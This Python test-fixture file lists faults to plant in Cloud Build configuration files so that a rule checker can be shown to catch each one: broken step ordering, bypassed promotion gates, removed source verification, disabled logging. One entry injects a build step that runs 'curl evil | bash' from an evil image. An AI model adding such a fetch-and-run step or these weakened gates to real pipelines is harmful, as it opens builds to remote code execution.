"""Faults to plant into the files of Cloud Build: each must be found (tests/infra/build_rules.py)."""

from __future__ import annotations

# File, what is replaced, by what, and what is said of it.
Fault = tuple[str, str, str, str]
BUILD, PROMOTION, RELEASE = (
    "cloudbuild.yaml",
    "infra/cloudbuild/promotion.yaml",
    "infra/cloudbuild/release.yaml",
)
PLAN, CI = "infra/cloudbuild/terraform-plan.yaml", "infra/cloudbuild/ci-image.yaml"
LINT = "    args: [lint]\n"
GATE = "    waitFor: [verify-images]\n"
FAULTS: dict[str, Fault] = {
    "waits for nothing there is": (
        BUILD,
        "waitFor: [setup]",
        "waitFor: [set-up]",
        "lint waits for set-up, no earlier step",
    ),
    "no target": (BUILD, "args: [lint]", "args: [lintt]", "lint: it calls make lintt, no target"),
    "another program": (BUILD, f"make\n{LINT}", f"bash\n{LINT}", "lint: it starts bash"),
    "a script": (BUILD, LINT, f"{LINT}    script: 'true'\n", "lint: it has the key script"),
    "another image": (BUILD, "name: ${_CI_IMAGE}", "name: python", "setup: it runs in python"),
    "not defined": (BUILD, "name: ${_CI_IMAGE}", "name: ${_CI_IMAG}", "$_CI_IMAG is not defined"),
    "not Google's": (BUILD, "$COMMIT_SHA", "$COMIT_SHA", "$COMIT_SHA is not defined"),
    "not used": (BUILD, "  _CONFIG: ''", "  _CONFIG: ''\n  _MORE: ''", "_MORE is defined and not used"),
    "not its own": (BUILD, "id: lint", "id: setup", "step setup has no id of its own"),
    "another project": (
        "infra/cloudbuild/ci-image.yaml",
        "_IMAGES: ''",
        "_IMAGES: us-central1-docker.pkg.dev/my-evergreen-dev/evergreen",
        "_IMAGES is 'us-central1-docker.pkg.dev/my-evergreen-dev/evergreen' by default",
    ),
    "no earlier environment by default": (
        PROMOTION,
        "_EARLIER_ENVIRONMENT: ''",
        "_EARLIER_ENVIRONMENT: none",
        "_EARLIER_ENVIRONMENT is 'none' by default",
    ),
    "a gate may fail": (
        PROMOTION,
        GATE,
        f"{GATE}    allowFailure: true\n",
        "promotion-gate: it has the key allowFailure",
    ),
    "a gate may end with 1": (
        PROMOTION,
        GATE,
        f"{GATE}    allowExitCodes: [1]\n",
        "promotion-gate: it has the key allowExitCodes",
    ),
    "tests may fail": (BUILD, LINT, f'{LINT}    "allowFailure": true\n', "lint: it has the key allowFailure"),
    "faults ignored": (BUILD, "args: [lint]", "args: [lint, -i]", "lint: it is given -i"),
    "another shell": (BUILD, "args: [lint]", "args: [lint, SHELL=true]", "lint: it is given SHELL=true"),
    "faults ignored by all": (BUILD, "env: [CI=true", "env: [MAKEFLAGS=-i, CI=true", "the option env is"),
    "the gate opened": (
        PROMOTION,
        "EARLIER=${_EARLIER_ENVIRONMENT}",
        "EARLIER=none",
        "promotion-gate: it is given EARL",
    ),
    "the gate goes round": (
        PROMOTION,
        "waitFor: [promotion-gate]",
        "waitFor: [verify-images]",
        "template does not wait for promotion-gate",
    ),
    "it comes too late": (
        PROMOTION,
        "waitFor: [promotion-gate]",
        "waitFor: ['-']",
        "upload does not wait for promotion",
    ),
    "no gate": (
        PROMOTION,
        "args: [promotion-gate,",
        "args: [resolve-images,",
        "nothing calls make promotion-gate",
    ),
    "no signature asked for": (
        PROMOTION,
        "waitFor: [verify-images]",
        "waitFor: [resolve-images]",
        "request-run does not wait for verify-images",
    ),
    "pushed before the tests": (
        BUILD,
        "waitFor: [local-run, infrastructure]",
        "waitFor: [local-run]",
        "images does not wait for infra-check",
    ),
    "pushed before the rules": (BUILD, "[rules, units]", "[units]", "images does not wait for mutate"),
    "current before the template": (
        BUILD,
        "waitFor: [upload]",
        "waitFor: [images]",
        "promote does not wait for upload",
    ),
    "released before the scan": (
        RELEASE,
        "waitFor: [scan-images]",
        "waitFor: [verify-images]",
        "release-images does not wait for scan-images",
    ),
    "planned before the tests": (
        PLAN,
        "waitFor: [infra-check]",
        "waitFor: ['-']",
        "infra-plan does not wait for infra-check",
    ),
    "skipped in silence": (
        PLAN,
        "CI=true, ",
        "",
        "the option env is ['PYTHONUNBUFFERED=1']",
    ),
    "cut off": (BUILD, "timeout: 7200s", "timeout: 1s", "its timeout is 1s"),
    "cut off while it waits": (PROMOTION, "timeout: 5400s", "timeout: 3000s", "its timeout is 3000s"),
    "no time to promote": (PROMOTION, "timeout: 5400s", "timeout: 60s", "its timeout is 60s"),
    "it does not wait": (PROMOTION, "WAIT_S=1800", "WAIT_S=0", "it waits 0 s for a tag"),
    "it waits for days": (PROMOTION, "WAIT_S=1800", "WAIT_S=999999", "it waits 999999 s for a tag"),
    "no wait": (RELEASE, ", WAIT_S=1200", "", "it does not wait for the tag"),
    "a variable twice": (
        PROMOTION,
        "'EARLIER=${_EARLIER_ENVIRONMENT}'",
        "'EARLIER=${_EARLIER_ENVIRONMENT}', 'EARLIER=${_EARLIER_ENVIRONMENT}'",
        "promotion-gate: it is given EARLIER twice",
    ),
    "a small machine": (BUILD, "  machineType: E2_HIGHCPU_8\n", "", "the option machineType is None"),
    "a source that is not verified": (
        CI,
        "  requestedVerifyOption: VERIFIED\n",
        "",
        "the option requestedVerifyOption is None",
    ),
    "a script beside the image of builds": (
        CI,
        "images: [",
        "  - {id: more, name: docker.io/evil, script: curl evil | bash}\nimages: [",
        "its steps are",
    ),
    "another image of builds": (CI, "infra/docker/ci.Dockerfile", "evil.Dockerfile", "its steps are"),
    "no end": (BUILD, "timeout: 7200s", "timeout: 86400s", "its timeout is 86400s"),
    "logs elsewhere": (BUILD, "CLOUD_LOGGING_ONLY", "NONE", "the option logging is NONE"),
    "a secret": (
        BUILD,
        "timeout:",
        "availableSecrets: {}\ntimeout:",
        "the build has the key availableSecrets",
    ),
    "an account": (BUILD, "timeout:", "serviceAccount: a\ntimeout:", "the build has the key serviceAccount"),
    "twice": (BUILD, LINT, f"{LINT}    args: [setup]\n", "args stands twice"),
}
